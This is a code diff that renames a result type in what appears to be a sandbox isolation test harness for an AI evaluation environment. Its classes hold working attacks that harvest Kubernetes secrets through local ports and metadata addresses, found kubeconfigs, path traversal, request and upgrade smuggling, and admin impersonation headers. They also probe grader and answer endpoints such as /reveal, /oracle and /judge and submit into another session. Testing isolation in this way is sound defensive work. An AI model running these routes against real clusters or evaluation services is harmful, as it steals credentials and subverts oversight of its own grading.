@@ -10,7 +10,7 @@ from typing import TYPE_CHECKING, ClassVar
 
 from .api import guessed
 from .ports import listening
-from .route import Known, Loot, Route
+from .route import Known, ProbeResult, Route
 
 if TYPE_CHECKING:
     from .place import Place
@@ -24,13 +24,13 @@ class OtherDoors(Route):
 
     name: ClassVar[str] = "api-server-directly"
 
-    def attempt(self, place: Place, loot: Loot) -> None:
+    def attempt(self, place: Place, result: ProbeResult) -> None:
         """Ask every port for secrets, with every credential that can be found."""
         context = ssl.create_default_context()
         context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
         for port in listening():
             for path in (_SECRETS, f"/{place.token}{_SECRETS}", "/api/v1/namespaces"):
-                loot.take(place.ask(f"http://127.0.0.1:{port}{path}", timeout_s=2)[1])
+                result.take(place.ask(f"http://127.0.0.1:{port}{path}", timeout_s=2)[1])
             request = f"GET {_SECRETS} HTTP/1.0\r\nHost: x\r\n\r\n".encode()
             try:
                 with (
@@ -39,12 +39,12 @@ class OtherDoors(Route):
                 ):
                     secure.sendall(request)
                     while piece := secure.recv(65_536):
-                        loot.take(piece)
+                        result.take(piece)
             except OSError:
                 continue
-        loot.facts["ports"] = len(listening())
+        result.facts["ports"] = len(listening())
         for name in ("kubernetes.default.svc", "169.254.169.254", "10.96.0.1"):
-            loot.take(place.ask(f"http://{name}:443{_SECRETS}", timeout_s=2)[1])
+            result.take(place.ask(f"http://{name}:443{_SECRETS}", timeout_s=2)[1])
 
 
 class Kubeconfigs(Route):
@@ -52,12 +52,12 @@ class Kubeconfigs(Route):
 
     name: ClassVar[str] = "other-kubeconfigs"
 
-    def attempt(self, place: Place, loot: Loot) -> None:
+    def attempt(self, place: Place, result: ProbeResult) -> None:
         """Use every one."""
         for top in (*TOPS, str(place.folder), str(Path.cwd())):
             for path in sorted(Path(top).rglob("*"))[:20_000]:
                 if path.is_file() and ("kubeconfig" in path.name or path.parent.name == ".kube"):
-                    loot.take(place.kubectl(f"--kubeconfig={path}", "get", "secrets", "-A", "-o", "yaml"))  # fmt: skip
+                    result.take(place.kubectl(f"--kubeconfig={path}", "get", "secrets", "-A", "-o", "yaml"))  # fmt: skip
 
 
 class Paths(Route):
@@ -65,7 +65,7 @@ class Paths(Route):
 
     name: ClassVar[str] = "path-tricks"
 
-    def attempt(self, place: Place, loot: Loot) -> None:
+    def attempt(self, place: Place, result: ProbeResult) -> None:
         """Send them as they are."""
         for path in guessed(place):
             words = path.strip("/").split("/")
@@ -80,9 +80,9 @@ class Paths(Route):
                 f"{path}?pretty=true&includeObject=Object", path.replace("/", "\\"),
             ):  # fmt: skip
                 request = f"GET {place.way}{odd} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
-                loot.take(place.raw(request.encode()))
+                result.take(place.raw(request.encode()))
             absolute = f"GET http://{place.host}{place.way}{path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
-            loot.take(place.raw(absolute.encode()))
+            result.take(place.raw(absolute.encode()))
 
 
 class Smuggling(Route):
@@ -90,7 +90,7 @@ class Smuggling(Route):
 
     name: ClassVar[str] = "request-smuggling"
 
-    def attempt(self, place: Place, loot: Loot) -> None:
+    def attempt(self, place: Place, result: ProbeResult) -> None:
         """Hide a request for secrets in another."""
         inner = f"GET {_SECRETS} HTTP/1.1\r\nHost: x\r\n\r\n"
         head = f"POST {place.way}/apis/authorization.k8s.io/v1/selfsubjectaccessreviews HTTP/1.1\r\nHost: x\r\n"
@@ -113,7 +113,7 @@ class Smuggling(Route):
             f"{head}{chunked}\r\n{len(inner):x};\r\n{inner}\r\n0\r\n\r\n{inner}",
             f"{head}Expect: 100-continue\r\nContent-Length: 2\r\n\r\n{{}}{inner}",
         ):
-            loot.take(place.raw(odd.encode(), timeout_s=1.0))
+            result.take(place.raw(odd.encode(), timeout_s=1.0))
 
 
 class Upgrades(Route):
@@ -121,7 +121,7 @@ class Upgrades(Route):
 
     name: ClassVar[str] = "upgrade-smuggling"
 
-    def attempt(self, place: Place, loot: Loot) -> None:
+    def attempt(self, place: Place, result: ProbeResult) -> None:
         """Begin a stream, then ask for secrets on the same connection."""
         inner = f"GET {_SECRETS} HTTP/1.1\r\nHost: x\r\n\r\n"
         pods = place.api(f"/api/v1/namespaces/{place.namespace}/pods?limit=1")[1]
@@ -143,7 +143,7 @@ class Upgrades(Route):
             ),
         ):
             request = f"GET {place.way}{path} HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: {upgrade}\r\n\r\n"
-            loot.take(place.raw((request + inner + inner).encode(), timeout_s=1.5))
+            result.take(place.raw((request + inner + inner).encode(), timeout_s=1.5))
 
 
 class Impersonation(Route):
@@ -151,7 +151,7 @@ class Impersonation(Route):
 
     name: ClassVar[str] = "impersonation"
 
-    def attempt(self, place: Place, loot: Loot) -> None:
+    def attempt(self, place: Place, result: ProbeResult) -> None:
         """Ask for secrets as an administrator."""
         for headers in (
             {"Impersonate-User": "kubernetes-admin", "Impersonate-Group": "system:masters"},
@@ -166,16 +166,16 @@ class Impersonation(Route):
             {"Authorization": f"Bearer {place.token}"},
             {"Connection": "close, Impersonate-User"},
         ):
-            loot.take(place.ask(f"{place.server}{_SECRETS}", headers=headers)[1])
+            result.take(place.ask(f"{place.server}{_SECRETS}", headers=headers)[1])
         double = (
             f"GET {place.way}{_SECRETS} HTTP/1.1\r\nHost: x\r\nImpersonate-User: a\r\n"
             "Impersonate-User: kubernetes-admin\r\nImpersonate-Group: system:masters\r\n"
             "Connection: close\r\n\r\n"
         )
-        loot.take(place.raw(double.encode()))
+        result.take(place.raw(double.encode()))
         for words in (("--as=kubernetes-admin",), ("--as=x", "--as-group=system:masters")):
-            loot.take(place.kubectl("get", "secrets", "-A", "-o", "yaml", *words))
-            loot.take(place.tool("kubectl", command=f"get secrets -A -o yaml {' '.join(words)}"))
+            result.take(place.kubectl("get", "secrets", "-A", "-o", "yaml", *words))
+            result.take(place.tool("kubectl", command=f"get secrets -A -o yaml {' '.join(words)}"))
 
 
 class StrangeDoors(Route):
@@ -183,24 +183,24 @@ class StrangeDoors(Route):
 
     name: ClassVar[str] = "doors-of-the-session"
 
-    def attempt(self, place: Place, loot: Loot) -> None:
+    def attempt(self, place: Place, result: ProbeResult) -> None:
         """Try them."""
         for path in (
             "/", "/record", "/reveal", "/verdict", "/oracle", "/problem", "/journal", "/admin",
             "/debug", "/metrics", "/tools/../record", "/tools/__class__", "/..%2f..%2fetc/passwd",
             "/status?reveal=true", "/instruction?verbose=1", "/openapi.json", "/static/../../x",
         ):  # fmt: skip
-            loot.take(place.door(path)[1])
-            loot.take(place.door(path, {"reveal": True})[1])
+            result.take(place.door(path)[1])
+            result.take(place.door(path, {"reveal": True})[1])
         for name in ("reference", "reveal", "_reference", "access", "judge", "kubectl "):
-            loot.take(place.tool(name, command="x", text="x"))
+            result.take(place.tool(name, command="x", text="x"))
         for port in listening():
             for path in ("/mcp", "/mcp/submission", "/#reveal=1", "/reveal", "/api/reveal"):
                 url = f"http://127.0.0.1:{port}{path}"
-                loot.take(place.ask(url, timeout_s=2)[1])
+                result.take(place.ask(url, timeout_s=2)[1])
                 headers = {"Authorization": f"Bearer {place.token}", "Mcp-Session-Id": "1"}
                 listing = {"jsonrpc": "2.0", "id": 1, "method": "resources/list"}
-                loot.take(place.ask(url, "POST", listing, headers, 2)[1])
+                result.take(place.ask(url, "POST", listing, headers, 2)[1])
 
 
 class OtherSession(Route):
@@ -208,20 +208,20 @@ class OtherSession(Route):
 
     name: ClassVar[str] = "other-session"
 
-    def attempt(self, place: Place, loot: Loot) -> None:
+    def attempt(self, place: Place, result: ProbeResult) -> None:
         """Read it, and hand in there."""
         door = place.guesses.get("other_gateway", "")
         api = place.guesses.get("other_api", "")
         for token in ("", place.token, "x", "null", place.token.lower()):
             headers = {"Authorization": f"Bearer {token}"}
             if door:
-                loot.take(place.ask(f"{door}/instruction", headers=headers)[1])
-                loot.take(place.ask(f"{door}/submit", "POST", {"text": "not mine"}, headers)[1])
+                result.take(place.ask(f"{door}/instruction", headers=headers)[1])
+                result.take(place.ask(f"{door}/submit", "POST", {"text": "not mine"}, headers)[1])
             if api:
-                loot.take(place.ask(f"{api}/{token}/api/v1/pods", headers=headers)[1])
+                result.take(place.ask(f"{api}/{token}/api/v1/pods", headers=headers)[1])
 
-    def leaked(self, loot: Loot, known: Known) -> str:
+    def leaked(self, result: ProbeResult, known: Known) -> str:
         """Nothing may have arrived there."""
         if known.elsewhere:
             return f"{known.elsewhere} submissions arrived in another session"
-        return known.found(loot.texts)
+        return known.found(result.texts)
